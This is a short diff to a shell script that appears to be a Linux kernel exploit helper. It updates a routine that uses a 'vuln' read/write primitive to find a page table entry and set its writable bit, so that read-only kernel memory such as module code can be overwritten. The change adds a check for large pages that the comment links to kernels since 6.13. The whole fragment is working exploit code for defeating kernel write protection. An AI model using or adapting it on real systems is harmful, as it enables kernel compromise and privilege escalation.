@@ -92,8 +92,13 @@ overwrite()
 overwrite_read_only()
 {
 	local entry value
-	entry=$(hex "$(entry_of "$1" 1)")
+	entry=$(hex "$(entry_of "$1" 2)")
 	value=$(($(vuln read "$entry")))
+	# PTE_PS; since 6.13, modules' code can lie in a large page
+	if [ $((value & 128)) = 0 ]; then
+		entry=$(hex "$(entry_of "$1" 1)")
+		value=$(($(vuln read "$entry")))
+	fi
 	vuln write "$entry" "$(hex $((value | 2)))" || return
 	overwrite "$@"
 	set -- $?
